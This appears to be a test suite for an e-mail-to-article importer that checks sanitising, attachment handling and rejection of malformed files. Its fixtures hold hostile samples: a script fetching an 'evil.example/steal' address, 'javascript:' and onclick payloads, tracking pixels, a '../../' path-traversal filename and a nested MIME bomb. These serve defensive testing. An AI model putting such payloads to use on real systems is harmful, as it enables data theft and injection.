import { Document, Packer, Paragraph } from 'docx'
import { describe, expect, it } from 'vitest'
import { MAX_EML_BYTES } from '@shared/import-limits'
import { emailDate, emlToArticle, senderByline } from './eml-to-article'

const enc = (s: string): Uint8Array => new TextEncoder().encode(s.replace(/\r?\n/g, '\r\n'))
const b64 = (bytes: Uint8Array): string =>
  btoa(String.fromCharCode(...bytes)).replace(/.{76}/g, '$&\n')

const HEADERS = `From: "Maria Field" <maria@example.org>
To: desk@example.org
Subject: Protest dispersed in the capital
Date: Tue, 3 Nov 2026 23:30:00 -0500
MIME-Version: 1.0`

describe('emlToArticle', () => {
  it('makes subject the title, sender the byline, Date the publication day and "E-mail" the source', async () => {
    const eml = `${HEADERS}
Content-Type: text/plain; charset=utf-8

Police used tear gas on Monday.

> An earlier report said
> no one was hurt.

Second paragraph.`
    const result = await emlToArticle('m.eml', enc(eml))
    expect(result.ok).toBe(true)
    if (!result.ok) return
    expect(result.parsed.title).toBe('Protest dispersed in the capital')
    expect(result.metadata).toEqual({
      source: 'E-mail',
      byline: 'Maria Field <maria@example.org>',
      publishedAt: '2026-11-03'
    })
    expect(result.parsed.blocks).toEqual([
      { kind: 'paragraph', text: 'Police used tear gas on Monday.' },
      { kind: 'quote', text: 'An earlier report said no one was hurt.' },
      { kind: 'paragraph', text: 'Second paragraph.' }
    ])
    expect(result.attachments).toBeUndefined()
  })

  it('prefers the HTML body and sanitises it: no script, no remote picture, no javascript: link', async () => {
    const eml = `${HEADERS}
Content-Type: multipart/alternative; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Plain version.

--b1
Content-Type: text/html; charset=utf-8

<html><head><title>Newsletter template</title><style>p{background:url(https://tracker.example/s.gif)}</style>
<script>fetch('https://evil.example/steal')</script></head>
<body><h2>Eyewitness account</h2><p onclick="alert(1)">Crowds gathered at <b>noon</b>.</p>
<img src="https://tracker.example/pixel.gif" alt="pixel">
<p><a href="javascript:alert(2)">Full statement</a></p>
<blockquote>We will march again.</blockquote></body></html>
--b1--`
    const result = await emlToArticle('m.eml', enc(eml))
    expect(result.ok).toBe(true)
    if (!result.ok) return
    expect(result.parsed.title).toBe('Protest dispersed in the capital')
    expect(result.parsed.blocks).toEqual([
      { kind: 'heading', level: 2, text: 'Eyewitness account' },
      { kind: 'paragraph', text: 'Crowds gathered at noon.' },
      { kind: 'paragraph', text: 'Full statement' },
      { kind: 'quote', text: 'We will march again.' }
    ])
    const all = JSON.stringify(result.parsed)
    expect(all).not.toMatch(/tracker|evil|javascript|alert|pixel/)
  })

  it('never requests a remote resource while importing', async () => {
    const requests: string[] = []
    const originalFetch = globalThis.fetch
    globalThis.fetch = ((input: RequestInfo | URL) => {
      requests.push(String(input))
      return Promise.reject(new Error('no network in an import'))
    }) as typeof fetch
    try {
      const eml = `${HEADERS}
Content-Type: text/html; charset=utf-8

<p>Text <img src="https://tracker.example/a.gif"><link rel="stylesheet" href="https://tracker.example/s.css"></p>
<iframe src="https://tracker.example/frame"></iframe><video src="https://tracker.example/v.mp4"></video>`
      const result = await emlToArticle('m.eml', enc(eml))
      expect(result.ok && result.parsed.blocks).toEqual([{ kind: 'paragraph', text: 'Text' }])
      expect(requests).toEqual([])
      expect(document.querySelectorAll('img, link, iframe, video')).toHaveLength(0)
    } finally {
      globalThis.fetch = originalFetch
    }
  })

  it('lists attachments, marking the kinds the workbench imports', async () => {
    const docx = new Uint8Array(
      await Packer.toBuffer(
        new Document({ sections: [{ children: [new Paragraph({ text: 'Attached report.' })] }] })
      )
    )
    const eml = `${HEADERS}
Content-Type: multipart/mixed; boundary="m1"

--m1
Content-Type: text/plain; charset=utf-8

See the attached files.

--m1
Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name="report.docx"
Content-Disposition: attachment; filename="report.docx"
Content-Transfer-Encoding: base64

${b64(docx)}
--m1
Content-Type: text/plain; name="../../notes.txt"
Content-Disposition: attachment; filename="../../notes.txt"

Field notes.
--m1
Content-Type: application/zip; name="photos.zip"
Content-Disposition: attachment; filename="photos.zip"
Content-Transfer-Encoding: base64

UEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==
--m1--`
    const result = await emlToArticle('m.eml', enc(eml))
    expect(result.ok).toBe(true)
    if (!result.ok) return
    expect(result.parsed.blocks).toEqual([{ kind: 'paragraph', text: 'See the attached files.' }])
    expect(result.attachments?.map((a) => [a.fileName, a.importable])).toEqual([
      ['report.docx', true],
      ['notes.txt', true],
      ['photos.zip', false]
    ])
    expect(result.attachments?.[0]?.bytes).toEqual(docx)
  })

  it('refuses a binary file, a text without mail headers, an empty file and an oversize one', async () => {
    const cases: [string, Uint8Array, RegExp][] = [
      [
        'bin.eml',
        new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d]),
        /binary file, not an e-mail/
      ],
      [
        'note.eml',
        enc('Just a note\n\nwith two paragraphs.'),
        /not an e-mail message: it has no From, Subject or Date/
      ],
      ['empty.eml', new Uint8Array(), /is empty/],
      [
        'huge.eml',
        new Uint8Array(MAX_EML_BYTES + 1).fill(0x41),
        /e-mails larger than 25 MB are not imported/
      ]
    ]
    for (const [name, bytes, message] of cases) {
      const result = await emlToArticle(name, bytes)
      expect(result.ok).toBe(false)
      if (!result.ok) expect(result.message).toMatch(message)
    }
  })

  it('refuses a binary file that starts like an e-mail, whatever the length of its text', async () => {
    // Issue 16: only the first 8 KB used to be checked; this one turns binary after 10 KB.
    const text = 'Police used tear gas on Monday, residents said. '.repeat(220)
    const head = enc(`${HEADERS}\nContent-Type: text/plain\n\n${text}\n`)
    const bytes = new Uint8Array(head.length + 4096)
    bytes.set(head)
    for (let i = head.length; i < bytes.length; i++) bytes[i] = (i * 7919) % 256
    expect(head.length).toBeGreaterThan(8192)
    expect(await emlToArticle('renamed.eml', bytes)).toEqual({
      ok: false,
      message:
        '“renamed.eml” is a binary file, not an e-mail message (binary data from byte 8,192 on). Nothing was imported.'
    })
  })

  it('imports a message whose attachment travels unencoded (Content-Transfer-Encoding: binary)', async () => {
    const photo = Uint8Array.from({ length: 12_000 }, (_, i) => (i * 7919 + 13) % 256)
    const head = enc(`${HEADERS}
Content-Type: multipart/mixed; boundary="m1"

--m1
Content-Type: text/plain; charset=utf-8

See the attached photo.
--m1
Content-Type: image/png; name="photo.png"
Content-Disposition: attachment; filename="photo.png"
Content-Transfer-Encoding: binary

`)
    const tail = enc('\n--m1--\n')
    const bytes = new Uint8Array(head.length + photo.length + tail.length)
    bytes.set(head)
    bytes.set(photo, head.length)
    bytes.set(tail, head.length + photo.length)
    const result = await emlToArticle('m.eml', bytes)
    if (!result.ok) throw new Error(result.message)
    expect(result.parsed.blocks).toEqual([{ kind: 'paragraph', text: 'See the attached photo.' }])
    expect(result.attachments?.map((a) => [a.fileName, a.importable])).toEqual([
      ['photo.png', false]
    ])
  })

  it('refuses a message nested deeper than any real one (a MIME bomb)', async () => {
    const nested = (depth: number): Uint8Array => {
      let body = 'Content-Type: text/plain\n\ncore'
      for (let i = 0; i < depth; i++) {
        body = `Content-Type: multipart/mixed; boundary="n${i}"\n\n--n${i}\n${body}\n--n${i}--`
      }
      return enc(`Subject: deep\n${body}`)
    }
    // Ten levels is odd but real (forwards of forwards): read.
    const ten = await emlToArticle('ten.eml', nested(10))
    expect(ten.ok && ten.parsed.blocks).toEqual([{ kind: 'paragraph', text: 'core' }])
    const result = await emlToArticle('deep.eml', nested(80))
    expect(result.ok).toBe(false)
    if (!result.ok) expect(result.message).toMatch(/could not be read as an e-mail message/)
  })
})

describe('senderByline', () => {
  it('writes name and address, or whichever there is', () => {
    expect(senderByline({ name: 'A B', address: 'a@b.org' })).toBe('A B <a@b.org>')
    expect(senderByline({ name: '', address: 'a@b.org' })).toBe('a@b.org')
    expect(senderByline({ name: 'Desk', group: [] })).toBe('Desk')
    expect(senderByline(undefined)).toBe('')
  })
})

describe('emailDate', () => {
  it('keeps the day the sender wrote, not the UTC day', () => {
    expect(emailDate('Tue, 3 Nov 2026 23:30:00 -0500', '2026-11-04T04:30:00.000Z')).toBe(
      '2026-11-03'
    )
  })
  it('falls back to the parsed date, and to nothing', () => {
    expect(emailDate('garbage', '2026-01-02T00:00:00.000Z')).toBe('2026-01-02')
    expect(emailDate('31 Feb 2026', undefined)).toBe('')
    expect(emailDate(undefined, undefined)).toBe('')
  })
})
